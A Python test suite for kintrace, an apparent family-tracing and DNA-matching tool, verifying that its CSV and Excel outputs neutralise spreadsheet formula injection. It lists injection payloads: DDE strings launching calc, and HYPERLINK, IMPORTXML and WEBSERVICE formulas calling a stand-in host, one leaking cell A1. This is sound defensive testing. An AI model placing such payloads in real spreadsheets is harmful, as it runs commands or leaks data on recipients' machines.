"""H5: no cell of any table that kintrace writes is taken for a formula, whatever somebody wrote into a list.

What is written is opened again as a spreadsheet program would, by openpyxl and by calamine.
"""

import csv
import io
import json

import openpyxl
import pytest
from python_calamine import CalamineWorkbook

from kintrace.cli.outcome import write_table, write_workbook
from kintrace.linelist.formulas import as_text
from tests.cli.conftest import write
from tests.cli.test_dna_commands import _seeking

SIGNS = ("=", "+", "-", "@", "\t", "\r")
ORDERS = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.invalid/?"&A1,"open")',
    "1+1",
    "SUM(A1:A9)",
    'IMPORTXML("http://x.invalid","//a")',
    'WEBSERVICE("http://x.invalid")',
    'DDE("cmd";"/C calc";"x")',
    "2+5+cmd|' /C calc'!A0",
)
PAYLOADS = [f"{sign}{order}" for sign in SIGNS for order in ORDERS] + ["＝1+1", "\n=1+1"]


def _is_safe(cell):
    return not str(cell).startswith((*SIGNS, "\n", "＝", "＋", "－", "＠"))


def _sent(text):
    """A CSV of payloads, as somebody would send it in."""
    out = io.StringIO()
    csv.writer(out).writerows(text)
    return out.getvalue()


def _cells(path):
    with path.open(encoding="utf8", newline="") as file:
        return [cell for row in csv.reader(file) for cell in row if not _is_number(cell)]


def _is_number(cell):
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_h5_there_are_fifty_payloads():
    assert len(set(PAYLOADS)) == 50


@pytest.mark.parametrize("payload", PAYLOADS)
def test_h5_a_cell_is_kept_from_running_and_stays_readable(payload):
    assert (_is_safe(as_text(payload)), as_text(payload).endswith(payload)) == (True, True)


def test_h5_a_plain_number_is_left_alone():
    assert [as_text(number) for number in ("-3.25", "+12", "7")] == ["-3.25", "+12", "7"]


def test_h5_a_workbook_opened_again_holds_no_formula(tmp_path):
    path = tmp_path / "out.xlsx"
    write_workbook(path, ["said"], [[as_text(payload)] for payload in PAYLOADS])
    cells = [row[0] for row in openpyxl.load_workbook(path).active.iter_rows(min_row=2)]
    assert (len(cells), {cell.data_type for cell in cells}) == (50, {"s"})
    assert all(_is_safe(cell.value) for cell in cells)
    rows = CalamineWorkbook.from_path(path).get_sheet_by_index(0).to_python()
    assert (len(rows), all(_is_safe(row[0]) for row in rows)) == (51, True)


def test_h5_a_workbook_of_cells_as_they_came_would_run(tmp_path):
    path = tmp_path / "out.xlsx"
    write_workbook(path, ["said"], [[payload] for payload in PAYLOADS])
    assert "f" in {row[0].data_type for row in openpyxl.load_workbook(path).active.iter_rows(min_row=2)}


def test_h5_a_table_opened_again_holds_no_formula(tmp_path):
    path = tmp_path / "out.csv"
    write_table(path, ["said"], [[as_text(payload)] for payload in PAYLOADS])
    assert all(map(_is_safe, _cells(path)))
    assert len(_cells(path)) == 51


def test_h5_nor_does_what_match_writes(kintrace, tmp_path):
    rows = [[f"{payload}{number}", payload, payload] for number, payload in enumerate(PAYLOADS)]
    head = ["id", "name", "father_name"]
    requests = write(tmp_path / "requests.csv", _sent([head, *rows]))
    children = write(tmp_path / "children.csv", _sent([head, *rows]))
    done = kintrace("match", requests, children, "-o", tmp_path / "out.csv", "--top", 3)
    assert done.code == 0, done.err
    cells = _cells(tmp_path / "out.csv")
    assert (len(cells) > 100, [cell for cell in cells if not _is_safe(cell)]) == (True, [])


def test_h5_nor_what_names_writes(kintrace, tmp_path):
    table = write(tmp_path / "in.csv", _sent([["name1", "name2"], *([payload, payload] for payload in PAYLOADS)]))
    done = kintrace("names", "--pairs", table, "-o", tmp_path / "out.csv")
    assert done.code == 0, done.err
    assert [cell for cell in _cells(tmp_path / "out.csv") if not _is_safe(cell)] == []


def test_h5_nor_what_duplicates_writes(kintrace, tmp_path):
    rows = [[f"{payload}{number}", "Мурадова Хадижа Тимуровна", "Тимур"] for number, payload in enumerate(PAYLOADS)]
    listed = write(tmp_path / "in.csv", _sent([["id", "name", "father_name"], *rows]))
    done = kintrace("duplicates", listed, "-o", tmp_path / "out.csv")
    assert done.code == 0, done.err
    assert [cell for cell in _cells(tmp_path / "out.csv") if not _is_safe(cell)] == []


def test_h5_nor_what_screen_writes(kintrace, tmp_path):
    seeking = _seeking()
    seeking["families"] = {f"{sign}K": seeking["families"]["K-1"] for sign in SIGNS}
    agreed = [["who", "consent"], *([f"{sign}K/{one}", "yes"] for sign in SIGNS for one in "FM"), ["=A", "yes"]]
    families = write(tmp_path / "families.json", json.dumps(seeking))
    laboratory = write(tmp_path / "lab.csv", "sample,sex,FGA_1,FGA_2\n=A,M,23,24\n")
    consents = write(tmp_path / "consents.csv", _sent(agreed))
    done = kintrace("screen", families, laboratory, "--consents", consents, "-o", tmp_path / "out.csv")
    assert done.code == 0, done.err
    cells = _cells(tmp_path / "out.csv")
    assert ("'=A" in cells, [cell for cell in cells if not _is_safe(cell)]) == (True, [])
